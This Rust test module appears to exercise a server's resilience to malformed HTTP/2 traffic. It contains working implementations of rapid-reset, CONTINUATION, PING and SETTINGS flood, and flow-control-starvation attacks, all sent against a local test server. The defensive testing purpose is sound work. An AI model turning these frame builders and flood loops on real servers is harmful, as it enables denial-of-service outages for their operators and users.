//! Attacks with HTTP/2 frames that no client library would send.

use std::time::Duration;

use tests::process::Server;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{sleep, timeout},
};

use super::Size;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Header block of a request, without Huffman coding or references to earlier requests.
fn block(method: &str, path: &str, authority: &str) -> Vec<u8> {
    let literal = |index: u8, text: &str| {
        let length = u8::try_from(text.len()).unwrap();
        assert!(length < 127, "a length of one byte");
        [&[index, length], text.as_bytes()].concat()
    };
    // Names 2, 4 and 1 of the static table, each without indexing; 0x86 is `:scheme http`.
    [literal(2, method), vec![0x86], literal(4, path), literal(1, authority)].concat()
}

struct Raw {
    stream: TcpStream,
    authority: String,
}

impl Raw {
    async fn open(server: &Server, settings: &[u8]) -> Option<Self> {
        let mut stream = TcpStream::connect(server.address()).await.ok()?;
        stream.set_nodelay(true).ok()?;
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, settings), &frame(SETTINGS, 1, 0, &[])].concat();
        stream.write_all(&hello).await.ok()?;
        Some(Self { stream, authority: server.address().to_string() })
    }

    /// Writes `bytes` and reads what arrives meanwhile, so that neither side blocks. Returns false once the server has
    /// closed.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        let mut answers = [0; 64 << 10];
        let (mut from, mut to) = self.stream.split();
        let writing = async { to.write_all(bytes).await.is_ok() };
        let reading = async { while matches!(from.read(&mut answers).await, Ok(1..)) {} };
        tokio::select! {
            sent = timeout(Duration::from_secs(5), writing) => sent.unwrap_or(false),
            () = reading => false,
        }
    }

    /// Reads up to and including the next frame of `kind`. Returns false if the server closes first.
    async fn until(&mut self, kind: u8) -> bool {
        let reading = async {
            loop {
                let mut head = [0; 9];
                self.stream.read_exact(&mut head).await.ok()?;
                let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
                self.stream.read_exact(&mut vec![0; length]).await.ok()?;
                if head[3] == kind {
                    return Some(());
                }
            }
        };
        matches!(timeout(Duration::from_secs(5), reading).await, Ok(Some(())))
    }

    /// Reads until the server closes the connection; false if it does not.
    async fn has_ended(&mut self) -> bool {
        let mut answers = [0; 64 << 10];
        let reading = async { while matches!(self.stream.read(&mut answers).await, Ok(1..)) {} };
        timeout(Duration::from_secs(10), reading).await.is_ok()
    }

    /// Bytes by which the server has opened the window of the connection, once it sends no more frames.
    async fn window_updates(&mut self) -> usize {
        let (mut bytes, mut chunk) = (Vec::new(), [0; 16 << 10]);
        while let Ok(Ok(read @ 1..)) = timeout(Duration::from_millis(100), self.stream.read(&mut chunk)).await {
            bytes.extend_from_slice(&chunk[..read]);
        }
        let (mut opened, mut rest) = (0, &bytes[..]);
        while let Some((head, more)) = rest.split_first_chunk::<9>() {
            let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let Some((payload, more)) = more.split_at_checked(length) else { break };
            if head[3] == WINDOW_UPDATE && head[5..] == [0; 4] {
                opened += payload.iter().fold(0, |sum, byte| sum << 8 | usize::from(*byte));
            }
            rest = more;
        }
        opened
    }
}

/// Opens streams and resets them at once.
pub(crate) async fn rapid_reset(server: &Server, size: Size) {
    for _ in 0..size.of(200, 10) {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let block = block("GET", "/api/v1/pods", &raw.authority);
        for first in (1..20_000).step_by(200) {
            let burst: Vec<u8> = (first..first + 200)
                .step_by(2)
                .flat_map(|stream| {
                    let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    [open, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                })
                .collect();
            if !raw.send(&burst).await {
                break;
            }
        }
    }
}

/// The next streams of a connection, from `first` on.
fn streams(first: usize, count: usize) -> impl Iterator<Item = u32> {
    (first..first + count).map(|index| u32::try_from(2 * index + 1).unwrap())
}

/// Opens streams and resets them once the server has begun to answer, a thousand at once.
pub(crate) async fn delayed_resets(server: &Server, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let block = block("GET", "/api/v1/pods?watch=1", &raw.authority);
    for first in (0..size.of(100_000, 5_000)).step_by(500) {
        let open: Vec<u8> =
            streams(first, 500).flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).collect();
        let reset: Vec<u8> =
            streams(first, 500).flat_map(|stream| frame(RESET, 0, stream, &8_u32.to_be_bytes())).collect();
        if !raw.send(&open).await {
            return;
        }
        sleep(Duration::from_millis(20)).await;
        if !raw.send(&reset).await {
            return;
        }
    }
}

/// Opens lists in a closed window, and resets each once its head has come.
pub(crate) async fn resets_behind_the_head(server: &Server, size: Size) {
    // SETTINGS_INITIAL_WINDOW_SIZE, 0.
    let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 0]).await else { return };
    let block = block("GET", "/api/v1/pods", &raw.authority);
    for stream in streams(0, size.of(5_000, 200)) {
        let (open, reset) =
            (frame(HEADERS, END_HEADERS | END_STREAM, stream, &block), frame(RESET, 0, stream, &[0; 4]));
        if !raw.send(&open).await || !raw.until(HEADERS).await || !raw.send(&reset).await {
            return;
        }
    }
}

/// Floods the server with frames that carry no request. Each flood but that of empty DATA frames, which h2 counts by
/// itself, must end its connection.
pub(crate) async fn floods(server: &Server, size: Size) {
    let frames = [
        ("ping", frame(PING, 0, 0, &[7; 8])),
        ("settings", frame(SETTINGS, 0, 0, &[])),
        ("changed settings", frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        ("priority", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        ("window", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ("window of a stream", frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
        ("unknown", frame(0xee, 0, 0, &[])),
        ("empty data", frame(DATA, 0, 1, &[])),
    ];
    for (name, flood) in frames {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let open = frame(HEADERS, END_HEADERS, 1, &block("POST", "/api/v1/namespaces/default/pods", &raw.authority));
        let _ = raw.send(&open).await;
        let flood = flood.repeat(500);
        for _ in 0..size.of(2_000, 100) {
            if !raw.send(&flood).await {
                break;
            }
        }
        assert!(raw.has_ended().await, "{name}: still connected");
    }
}

/// Ends each request by trailers with many fields, and sends trailers after the end.
pub(crate) async fn trailers(server: &Server, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let open = block("POST", "/api/v1/namespaces/default/pods", &raw.authority);
    // `grpc-status: 0` without indexing, many times.
    let field = [&[0, 11][..], b"grpc-status", &[1], b"0"].concat();
    let fields = field.repeat(1_000);
    for stream in streams(0, size.of(20_000, 500)) {
        let begun = frame(HEADERS, END_HEADERS, stream, &open);
        let trailers = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields);
        if !raw.send(&[begun, trailers.clone(), trailers].concat()).await {
            return;
        }
    }
}

/// Sends a header block that never ends.
pub(crate) async fn continuation(server: &Server, size: Size) {
    for piece in [vec![], vec![0; 8 << 10]] {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let _ = raw.send(&frame(HEADERS, 0, 1, &block("GET", "/", &raw.authority))).await;
        let more = frame(CONTINUATION, 0, 1, &piece).repeat(20);
        for _ in 0..size.of(2_000, 50) {
            if !raw.send(&more).await {
                break;
            }
        }
    }
}

/// Sends bodies on many streams of one connection and ends none of them.
pub(crate) async fn held_streams(server: &Server, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let path = "/api/v1/namespaces/default/configmaps";
    let (piece, mut window) = (vec![b' '; 16 << 10], 65_535);
    let mut held = 0;
    while held < size.of(300, 40) {
        if window < piece.len() {
            window += raw.window_updates().await;
        }
        if window < piece.len() {
            // The server reads no further bodies of this connection.
            break;
        }
        let stream = u32::try_from(2 * held + 1).unwrap();
        let open = frame(HEADERS, END_HEADERS, stream, &block("POST", path, &raw.authority));
        raw.stream.write_all(&[open, frame(DATA, 0, stream, &piece)].concat()).await.unwrap();
        window -= piece.len();
        held += 1;
    }
    assert!(held >= size.of(100, 40), "{held} bodies are held");
    sleep(Duration::from_millis(size.of(3_000, 300) as u64)).await;
}

/// Opens watches whose flow-control window stays zero.
pub(crate) async fn shut_windows(server: &Server, size: Size) {
    // SETTINGS_INITIAL_WINDOW_SIZE, 0.
    let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 0]).await else { return };
    for index in 0..size.of(900, 40) {
        let stream = u32::try_from(2 * index + 1).unwrap();
        let path = "/api/v1/pods?watch=1&timeoutSeconds=5";
        let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block("GET", path, &raw.authority));
        if !raw.send(&open).await {
            return;
        }
    }
    sleep(Duration::from_millis(size.of(5_000, 300) as u64)).await;
}

/// Requests lists on all streams of several connections, each in a window of one byte, and reads none of them.
pub(crate) async fn narrow_windows(server: &Server, size: Size) {
    let before = server.private_bytes();
    let mut held = Vec::new();
    for _ in 0..size.of(4, 2) {
        // SETTINGS_INITIAL_WINDOW_SIZE, 1.
        let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 1]).await else { continue };
        let block = block("GET", "/api/v1/pods?limit=20", &raw.authority);
        let open: Vec<u8> = streams(0, size.of(1_000, 100))
            .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
            .collect();
        if raw.send(&open).await {
            held.push(raw);
        }
    }
    sleep(Duration::from_millis(size.of(3_000, 300) as u64)).await;
    println!("narrow windows: {} connections, {} MiB more", held.len(), (server.private_bytes() - before) >> 20);
}
